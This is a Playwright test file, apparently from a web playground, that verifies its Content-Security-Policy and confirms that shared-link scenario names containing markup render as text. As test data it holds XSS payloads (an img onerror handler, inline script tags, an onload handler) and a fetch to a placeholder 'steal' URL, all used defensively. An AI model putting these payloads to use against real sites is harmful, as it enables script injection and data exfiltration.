// The built page's Content-Security-Policy (issue 42: share links are strangers' input): the
// core's wasm runs under it, and what a hostile link could try to smuggle in does not: an inline
// script, an inline event handler, a request to another origin. The page also never builds HTML
// from scenario text (eslint's no-restricted-syntax rule); a name full of markup shows as text.
import { readFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { PlaygroundPage } from './pages/playground';
import { encodeScenarioHash } from '../web/src/share/link';

const DEFAULT = readFileSync(new URL('../scenarios/default.json', import.meta.url), 'utf8');
const MARKUP = '<img src=x onerror="window.__pwned = 1"><script>window.__pwned = 2</script>';

test('the built page carries the policy and the core runs under it', async ({ page }) => {
  const app = await new PlaygroundPage(page).open();
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).not.toBeNull();
  const directives = new Map((policy ?? '').split(';').map((d) => {
    const [name, ...values] = d.trim().split(/\s+/);
    return [name, values] as const;
  }));
  // Scripts only from the site, and wasm compiled by it; nowhere else to send anything.
  expect(directives.get('script-src')).toEqual(["'self'", "'wasm-unsafe-eval'"]);
  expect(directives.get('connect-src')).toEqual(["'self'"]);
  expect(directives.get('object-src')).toEqual(["'none'"]);
  expect(directives.get('form-action')).toEqual(["'none'"]);
  // The default scenario ran in the worker's wasm under that policy.
  await expect(app.traceHash).toHaveText(/^[0-9a-f]{32}$/);
  expect(app.consoleErrors).toEqual([]);
});

test('an inline script, an inline handler and a request elsewhere are refused', async ({ page }) => {
  await new PlaygroundPage(page).open();
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const w = window as unknown as { __pwned?: number };
    const script = document.createElement('script');
    script.textContent = 'window.__pwned = 1';
    document.body.append(script);
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="data:," onload="window.__pwned = 2">';
    document.body.append(holder);
    let fetched = 'sent';
    try {
      await fetch('https://example.com/steal');
    } catch {
      fetched = 'refused';
    }
    await new Promise((r) => setTimeout(r, 300));
    holder.remove();
    script.remove();
    return { pwned: w.__pwned ?? null, fetched, violations };
  });
  expect(outcome.pwned).toBeNull();
  expect(outcome.fetched).toBe('refused');
  expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src']));
});

test('a link whose scenario name is markup shows it as text', async ({ page }) => {
  const scenario = { ...(JSON.parse(DEFAULT) as Record<string, unknown>), name: MARKUP };
  const app = await new PlaygroundPage(page).open(encodeScenarioHash(JSON.stringify(scenario)));
  await expect(page.getByText(MARKUP).first()).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? null)).toBeNull();
  expect(app.consoleErrors.filter((e) => !/Content Security Policy/.test(e))).toEqual([]);
});
